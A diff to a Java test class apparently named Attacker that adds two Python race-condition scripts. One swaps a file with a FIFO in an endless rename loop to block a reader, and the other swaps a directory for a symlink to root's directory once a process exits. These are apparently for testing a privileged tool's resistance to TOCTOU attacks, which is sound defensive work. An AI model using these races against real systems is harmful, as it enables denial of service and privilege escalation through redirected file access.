@@ -382,4 +382,55 @@ final class Attacker implements AutoCloseable {
         }
         return out.toString();
     }
+    /**
+     * {@code DIR NAME TICK}: DIR/NAME (a regular file of the attacker's) and a FIFO trade names
+     * ({@code renameat2(RENAME_EXCHANGE)}) in a loop that never stops, so whoever looks at
+     * DIR/NAME and then opens it may find a regular file and open a FIFO no one writes: an
+     * {@code open(O_RDONLY)} that blocks forever (one command in five to ten here). With TICK {@code tick}, a line
+     * {@code tick MILLIS} (the wall clock) is appended to the regular file every 100 ms, through a
+     * descriptor, whatever its name at the time. Prints {@code flipping}.
+     */
+    static final String FLIP_FIFO = RACE_PRELUDE + """
+            import random, time
+            d, name, tick = sys.argv[1:4]
+            target, fifo = os.path.join(d, name), os.path.join(d, ".atkfifo")
+            os.mkfifo(fifo, 0o644)
+            fd = os.open(target, os.O_WRONLY | os.O_APPEND)
+            print("flipping", flush=True)
+            last = 0.0
+            while True:
+                exchange(target, fifo)
+                # back to back, renames hold the directory's lock so evenly that a look and an
+                # open fall on the same side; a little jitter makes every interleaving happen
+                for _ in range(random.randrange(4)):
+                    pass
+                if tick == "tick" and time.monotonic() - last > 0.1:
+                    last = time.monotonic()
+                    os.write(fd, b"tick %d\\n" % int(time.time() * 1000))
+            """;
+
+    /**
+     * {@code DIR NAME TARGET PID}: the moment process PID is gone (or a zombie: its node has
+     * exited), directory DIR/NAME becomes a symlink to TARGET (root's directory) in one
+     * {@code renameat2(RENAME_EXCHANGE)}; the old directory moves aside to {@code .atkN}.
+     * Prints {@code waiting}, then {@code swapped NAME} or {@code missed NAME: WHY}, and exits.
+     */
+    static final String SWAP_DIRECTORY_WHEN_GONE = RACE_PRELUDE + """
+            d, victim, target, pid = sys.argv[1:5]
+            links = Links(d, target)
+            stat = "/proc/%s/stat" % pid
+            print("waiting", flush=True)
+            while True:
+                try:
+                    with open(stat) as f:
+                        if f.read().rsplit(")", 1)[1].split()[0] == "Z":
+                            break
+                except (FileNotFoundError, ProcessLookupError):
+                    break
+            try:
+                exchange(links.path, os.path.join(d, victim))
+                print("swapped " + victim, flush=True)
+            except OSError as e:
+                print("missed %s: %s" % (victim, e.strerror), flush=True)
+            """;
 }
